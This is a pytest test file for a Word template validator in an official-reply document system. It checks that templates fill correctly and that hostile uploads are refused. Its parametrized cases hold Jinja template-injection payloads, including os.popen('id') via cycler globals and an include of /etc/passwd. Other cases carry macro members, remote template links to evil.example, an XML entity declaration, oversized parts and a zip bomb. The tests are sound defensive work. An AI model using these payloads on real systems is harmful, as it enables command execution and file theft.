"""Word templates: filled in as they say, and the worst that somebody may upload."""

import io
import zipfile
from datetime import date

import pytest
from docx import Document

from geokit.refusal import BadInput, TooLarge
from papers.documents.default_template import default_template
from papers.documents.templates import check_template, fill
from papers.documents.words import NEEDED, AnswerWords

WORDS = AnswerWords(
    title="<b>井盖</b> & 路灯", paper_number="2026-J0001", session="第五次会议", organ="区水利局",
    number="海水函〔2026〕1号", recipient="张代表", text="第一段 {{ 7*7 }}\n第二段 <w:p/>", result="A",
    signer="李局长", signed_on=date(2026, 3, 5), contact="王工", phone="1", copies="",
)  # fmt: skip


def docx(*lines):
    word = Document()
    for line in lines:
        word.add_paragraph(line)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


ALL = " ".join(f"{{{{ {name} }}}}" for name in NEEDED)


def with_member(content, name, text):
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, text)
    return out.getvalue()


def lines_of(content):
    return [paragraph.text for paragraph in Document(io.BytesIO(content)).paragraphs]


def test_the_default_template_passes_its_own_check_and_says_everything():
    check_template(default_template())
    said = "\n".join(lines_of(fill(default_template(), WORDS)))
    for words in ("关于第五次会议第2026-J0001号建议的答复", "2026年3月5日", "<b>井盖</b> & 路灯", WORDS.check_code):
        assert words in said


def test_each_line_of_the_answer_is_a_paragraph_and_none_of_it_is_a_template():
    said = lines_of(fill(docx(ALL, "{{ 正文 }}"), WORDS))
    assert "第一段 {{ 7*7 }}" in said
    assert "第二段 <w:p/>" in said


def test_an_organ_may_leave_out_a_line_where_a_word_is_empty():
    own = docx(ALL, "{% if 抄送 %}抄送：{{ 抄送 }}{% endif %}")
    check_template(own)
    assert not any("抄送" in line for line in lines_of(fill(own, WORDS)))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "no-docx"),
        (b"PK\x03\x04 cut off", "zip-corrupt"),
        (docx("{{ 正文 }}"), "word-missing"),
        (docx(ALL, "{{ 密码 }}"), "unknown-word"),
        (docx(ALL, "{{ 正文.__class__.__mro__ }}"), "not-plain"),
        (docx(ALL, "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "not-plain"),
        (docx(ALL, "{% for x in range(999999999) %}{{ 正文 }}{% endfor %}"), "not-plain"),
        (docx(ALL, "{{ 7 ** 7 ** 7 ** 7 }}"), "not-plain"),
        (docx(ALL, "{% include '/etc/passwd' %}"), "not-plain"),
        (docx(ALL, "{{ 正文"), "bad-syntax"),
        (with_member(docx(ALL), "word/vbaProject.bin", "x"), "has-macros"),
        (
            with_member(
                docx(ALL), "word/_rels/header1.xml.rels",
                '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
                'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
            ),
            "links-outside",
        ),
        (
            with_member(
                docx(ALL), "word/_rels/header1.xml.rels",
                "<Relationships><Relationship Id='r' Type='http://x/relationships/attachedTemplate' "
                "Target='http://evil.example/?a>b' TargetMode='External'/></Relationships>",
            ),
            "links-outside",
        ),
        (
            with_member(
                docx(ALL), "word/_rels/header1.xml.rels",
                '<Relationships><Relationship Id="r" Type="http://x/relationships/image" '
                'Target="http://evil.example/x.png" TargetMode="&#69;xternal"/></Relationships>',
            ),
            "links-outside",
        ),
        (with_member(docx(ALL), "word/header9.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "xml-doctype"),
    ],
    ids=[
        "nothing", "cut-off", "too-little", "unknown", "attribute", "globals", "loop", "power", "include", "unfinished",
        "macro", "outside", "outside-in-single-quotes", "outside-in-references", "entity",
    ],
)  # fmt: skip
def test_what_is_no_template_is_refused(content, code):
    with pytest.raises(BadInput) as refused:
        check_template(content)
    if code != "xml-doctype":
        assert refused.value.code == code


@pytest.mark.parametrize("part", ["{<" * 1_000_000, "<w:tr >{%tr x%}" * 200_000, "</w:t>{%" * 400_000])
def test_a_part_that_the_library_never_gets_through_is_given_up(part):
    with pytest.raises(TooLarge):
        check_template(with_member(docx(ALL), "word/header8.xml", part))


def test_relations_without_end_are_looked_through_once():
    relations = "<Relationships>" + "<Relationship " * 200_000
    with pytest.raises(BadInput) as refused:
        check_template(with_member(docx(ALL), "word/_rels/header1.xml.rels", relations))
    assert refused.value.code == "no-docx"


def test_a_bomb_is_refused():
    with pytest.raises(TooLarge):
        check_template(with_member(docx(ALL), "word/document2.xml", "a" * 60_000_000))
